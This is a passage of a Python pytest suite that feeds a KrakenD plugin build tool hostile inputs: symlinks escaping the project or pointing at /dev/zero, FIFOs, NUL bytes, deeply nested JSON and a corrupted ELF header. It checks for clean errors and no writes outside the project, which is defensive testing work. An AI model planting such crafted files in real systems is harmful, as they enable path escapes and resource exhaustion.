        Case("toml-dangling", ["matrix"], 2, "symbolic link to nothing", {toml: "DANGLING"}),
        Case("toml-loop", ["matrix"], 2, "symbolic link to nothing", {toml: "LOOP"}),
        Case("pyproject-tool-not-table", ["matrix"], 2, "[tool] is not a table",
             {toml: GONE, "pyproject.toml": "tool = 5"}),
        Case("toml-nul", ["matrix"], 2, "holds a NUL byte", {toml: 'builder = "a\\u0000b"'}),
        Case("env-nul-like", ["matrix"], 2, "control character", env={"KRAKEND_TASKS_RUNNER": "a\tb"}),
        Case("toml-cc-empty", ["matrix"], 2, "target.arm64-alpine.cc = '': an empty value",
             {toml: '[target.arm64-alpine]\ncc = ""'}),
        Case("goflags-unbalanced", ["build", "--engine", "local", "--version", VERSION, "--target", "amd64-generic"],
             2, "GOFLAGS cannot be read", env={"GOFLAGS": "-ldflags='-s"}),
        Case("elf-go-program", ["inspect", "--path", "prog"], 8, "not a plugin", {"prog": "GO-PROGRAM"}),
        Case("elf-bad-shstrndx", ["inspect", "--path", "x.so"], 8, "damaged", {"x.so": "BAD-SHSTRNDX"}),
    ]


def _part_three_cases() -> list[Case]:
    """Issue 29's classes: every JSON we read has one bound, --only is checked by matrix too."""
    deep = "[" * 100_000 + "]" * 100_000
    return [
        Case("manifest-nested-deeply", ["test-load", "--version", VERSION], 2, "nested too deeply",
             {"dist/manifest.json": deep}, unchanged=("dist/manifest.json",)),
        Case("manifest-nested-objects", ["check", "--version", VERSION], 2, "nested too deeply",
             {"dist/manifest.json": '{"a":' * 50_000 + "1" + "}" * 50_000}, unchanged=("dist/manifest.json",)),
        Case("matrix-only-no-such-plugin", ["matrix", "--only", "nothing"], 2, "no plugin 'nothing' here"),
        Case("matrix-plugin-setting-no-such-plugin", ["matrix"], 2, "no plugin 'nope' here",
             {"krakend-tasks.toml": 'plugin = "nope"\n'}, unchanged=("krakend-tasks.toml",)),
        Case("matrix-plugin-env-no-such-plugin", ["matrix"], 2, "no plugin 'nope' here",
             env={"KRAKEND_TASKS_PLUGIN": "nope"}),
    ]


CASES = [*_part_three_cases(), *_go_sum_cases(), *_go_mod_cases(), *_elf_cases(), *_krakend_json_cases(),
         *_settings_file_cases(), *_settings_env_cases(), *_argument_cases(), *_new_cases(), *_ship_cases(),
         *_injection_cases(),
         *_special_file_cases(), *_slipping_settings_cases()]


def _make(project: Path, files: dict[str, object]) -> None:
    for relative, spec in files.items():
        path = project / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_dir():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        if spec is GONE:
            continue
        if spec is DIR:
            path.mkdir()
        elif spec == "C-PROGRAM":
            shutil.copy("/bin/true", path)
        elif spec == "ELF-HEADER":
            path.write_bytes(Path("/bin/true").read_bytes()[:64])
        elif spec == "DANGLING":
            path.symlink_to(project / "nowhere")
        elif spec == "DANGLING-OUTSIDE":
            path.symlink_to(project.parent / "created-outside")
        elif spec == "OUTSIDE":
            path.symlink_to(project.parent / "outside.txt")
        elif spec == "LOOP":
            path.symlink_to(path)
        elif spec == "FIFO":
            os.mkfifo(path)
        elif spec == "ZERO":
            path.symlink_to("/dev/zero")
        elif spec == "GO-PROGRAM":
            shutil.copy(GO_PROGRAM, path)
        elif spec == "BAD-SHSTRNDX":
            data = bytearray(Path(GO_PROGRAM).read_bytes())
            data[0x3E:0x40] = (0xFFF0).to_bytes(2, "little")  # e_shstrndx beyond the section headers
            path.write_bytes(bytes(data))
        elif isinstance(spec, bytes):
            path.write_bytes(spec)
        else:
            path.write_text(str(spec))


def _snapshot(project: Path) -> dict[str, bytes]:
    return {str(p.relative_to(project)): p.read_bytes() for p in project.rglob("*")
            if p.is_file() and not p.is_symlink()}


@pytest.mark.parametrize("case", [c.param for c in CASES])
def test_hostile_input(case: Case, tmp_path, monkeypatch, capsys):
    project = tmp_path / "hello"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("dist*"))
    (tmp_path / "outside.txt").write_text("precious\n")  # what links a repository plants point at
    if "pyproject.toml" in case.files:  # the example's own settings file would be read instead
        (project / "krakend-tasks.toml").unlink()
    _make(project, case.files)
    before = _snapshot(project)
    for name in [n for n in os.environ if n.startswith("KRAKEND_TASKS_")]:
        monkeypatch.delenv(name)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    monkeypatch.chdir(project)

    status = run(case.argv)

    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    assert (status, case.message in out + err) == (case.status, True), out + err
    if status not in (0, 1):  # an error: its message and a hint, nothing else
        assert len(err.strip().splitlines()) <= 2, err
    after = _snapshot(project)
    for name in case.unchanged:
        assert after.get(name) == before.get(name), f"{name} changed"
        assert f"{name}.bak" not in after
    if case.argv[:1] == ["new"]:
        assert not (project / "fresh").exists() and set(after) == set(before), "new wrote something"
    # nothing written outside the project, nor through a link
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hello", "outside.txt"]
    assert (tmp_path / "outside.txt").read_text() == "precious\n"


@pytest.fixture(scope="session", autouse=True)
def _go_program(tmp_path_factory):
    """A real Go program (not a plugin), for the ELF verdicts."""
    global GO_PROGRAM
    folder = tmp_path_factory.mktemp("goprog")
    (folder / "go.mod").write_text("module example.com/prog\n\ngo 1.25\n")
    (folder / "main.go").write_text("package main\n\nfunc main() {}\n")
    GO_PROGRAM = folder / "prog"
    import subprocess

    subprocess.run(["go", "build", "-o", str(GO_PROGRAM), "."], cwd=folder, check=True, capture_output=True,
                   env={**os.environ, "GOTOOLCHAIN": "local", "GOFLAGS": "-mod=mod"})


GO_PROGRAM = Path("/nonexistent")


def test_the_suite_is_large_and_has_unique_names():
    names = [c.id for c in CASES]
    assert len(names) >= 200 and len(set(names)) == len(names)


# The adapters read settings of their own: register() in a noxfile, invoke.yaml, INVOKE_KRAKEND_*.
NOXFILE = "import krakend_tasks.nox\n\nkrakend_tasks.nox.register({args})\n"
TASKS = "import krakend_tasks.invoke\n\nns = krakend_tasks.invoke.collection()\n"


@pytest.mark.parametrize(("tool", "register", "extra", "env", "message"), [
    ("nox", "version=2.13", "", {}, "register(): version = 2.13: expected `str`, got `float`"),
    ("nox", "pull='sometimes'", "", {}, "register(): pull = 'sometimes': not one of the choices"),
    ("nox", "", "", {"KRAKEND_TASKS_PULL": "sometimes"}, "environment: pull = 'sometimes'"),
    ("nox", "", "--target ''", {}, "arguments: targets = '': an empty value"),
    ("invoke", "", "version: 2.13\n", {}, "invoke configuration (krakend.*"),
    ("invoke", "", "verison: '2.13'\n", {}, "unknown setting 'verison'"),
    ("invoke", "", "", {"INVOKE_KRAKEND_BOGUS": "1"}, "unknown setting 'bogus'"),
    ("invoke", "", "targets: []\n", {}, "targets = []: expected `array` of length >= 1"),
])
def test_adapter_settings_of_the_wrong_type(example, tool, register, extra, env, message):
    if tool == "nox":
        (example / "noxfile.py").write_text(NOXFILE.format(args=register))
        argv = ["nox", "-s", "matrix", "--", *([a.strip("'") for a in extra.split()] if extra else [])]
    else:
        (example / "tasks.py").write_text(TASKS)
        if extra:
            (example / "invoke.yaml").write_text("krakend:\n" + "".join(f"  {line}\n" for line in extra.splitlines()))
        argv = ["invoke", "matrix"]
    out = run_process([PYTHON, "-m", *argv], example, env=env)
    assert out.returncode != 0 and message in out.stdout + out.stderr, out.stdout + out.stderr
    assert "Traceback" not in out.stdout + out.stderr


# What the Docker daemon refuses: one message naming it, exit 2, and no container left behind.
def _docker_build(project: Path, *extra: str):
    settings = docker_settings()
    argv = ["build", "--target", "amd64-generic", "--version", VERSION, "--pull", "never"]
    for key in ("engine", "builder", "network"):
        if f"--{key}" not in extra:
            argv += [f"--{key}", settings[key]]
    return run_process([PYTHON, "-m", "krakend_tasks", *argv, *extra], project)


@pytest.mark.parametrize(("extra", "message"), [
    (("--network", "no-such-network"), "Docker refused the build container"),
    (("--builder", "Not A/valid name"), "builder = 'Not A/valid name': not allowed"),
])
def test_what_docker_refuses_is_one_message(example, docker_client, extra, message):
    out = _docker_build(example, *extra)
    assert out.returncode == 2 and message in out.stderr, out.stderr
    assert "Traceback" not in out.stderr and our_containers(docker_client) == []


def test_an_image_without_krakend_is_one_message(example, docker_client, cross):
    assert run_process([PYTHON, "-m", "krakend_tasks", "build", "--engine", "local", "--version", VERSION,
                        "--target", "amd64-generic"], example).returncode == 0
    image = f"{docker_settings()['builder']}:{VERSION}-linux-generic"
    out = run_process([PYTHON, "-m", "krakend_tasks", "test-load", "--version", VERSION, "--pull", "never",
                       "--image", image], example)
    assert out.returncode == 2 and "Docker refused the krakend container" in out.stderr, out.stderr
    assert "Traceback" not in out.stderr and our_containers(docker_client) == []


def test_a_project_path_with_a_colon_builds_in_docker(tmp_path, docker_client):
    project = tmp_path / "team:plugins" / "hello"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("dist*"))
    out = _docker_build(project)
    assert out.returncode == 0, out.stderr
    assert (project / "dist" / f"hello-{VERSION}-amd64-generic.so").is_file()


# Issue 29, part three: what a user's process and environment do to a run --------------------------


def test_a_blank_cc_is_one_message(example):
    (example / "krakend-tasks.toml").write_text('[target.amd64-generic]\nenv = { CC = " " }\n')
    out = run_process([PYTHON, "-m", "krakend_tasks", "build", "--engine", "local", "--version", VERSION,
                       "--target", "amd64-generic"], example)
    assert out.returncode == 2 and "CC is empty for amd64-generic" in out.stderr and "Traceback" not in out.stderr


@pytest.mark.parametrize("value", ["5", "[a]"])
def test_invoke_project_of_another_type_is_one_message(example, value):
    (example / "tasks.py").write_text(TASKS)
    (example / "invoke.yaml").write_text(f"krakend:\n  project: {value}\n")
    out = run_process(["invoke", "matrix"], example)
    assert out.returncode == 2 and "krakend.project is" in out.stderr and "Traceback" not in out.stderr


def test_test_plugin_refuses_a_fifo(tmp_path):
    fifo = tmp_path / "p.so"
    os.mkfifo(fifo)
    (tmp_path / "krakend-tasks.toml").write_text(f'version = "{VERSION}"\n')
    out = run_process([PYTHON, "-m", "krakend_tasks", "test-plugin", "-s", str(fifo)], tmp_path, timeout=60)
    assert out.returncode == 1 and f"[KO] Unable to open the plugin {fifo}." in out.stderr


def test_sigint_stops_a_run_started_with_sigint_ignored(example):
    """A shell's background job inherits SIGINT ignored: `kill -INT` still stops before_build (exit 130)."""
    import signal
    import subprocess
    import time

    (example / "krakend-tasks.toml").write_text('before_build = "sleep 120 # kt-hostile-sigint"\n')
    command = f"trap '' INT; exec {PYTHON} -m krakend_tasks build --engine local --version {VERSION} " \
              "--target amd64-generic"
    proc = subprocess.Popen(["bash", "-c", command], cwd=example, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while subprocess.run(["pgrep", "-f", "kt-hostile-sigint"], capture_output=True).returncode != 0:
            assert time.monotonic() < deadline and proc.poll() is None
            time.sleep(0.2)
        proc.send_signal(signal.SIGINT)
        assert proc.wait(timeout=30) == 130
    finally:
        proc.kill()
    assert subprocess.run(["pgrep", "-f", "kt-hostile-sigint"], capture_output=True).returncode == 1


def test_a_cache_that_cannot_be_written_fails_nothing(example, tmp_path):
    """Caches are best effort and the lock falls back to the file's folder: a cache path that is a file."""
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("")
    env = {"XDG_CACHE_HOME": str(blocked)}
    out = run_process([PYTHON, "-m", "krakend_tasks", "build", "--engine", "local", "--version", VERSION,
                       "--target", "amd64-generic"], example, env=env)
    assert out.returncode == 0, out.stderr
    out = run_process([PYTHON, "-m", "krakend_tasks", "configure", "--version", VERSION], example, env=env)
    assert out.returncode == 0, out.stderr
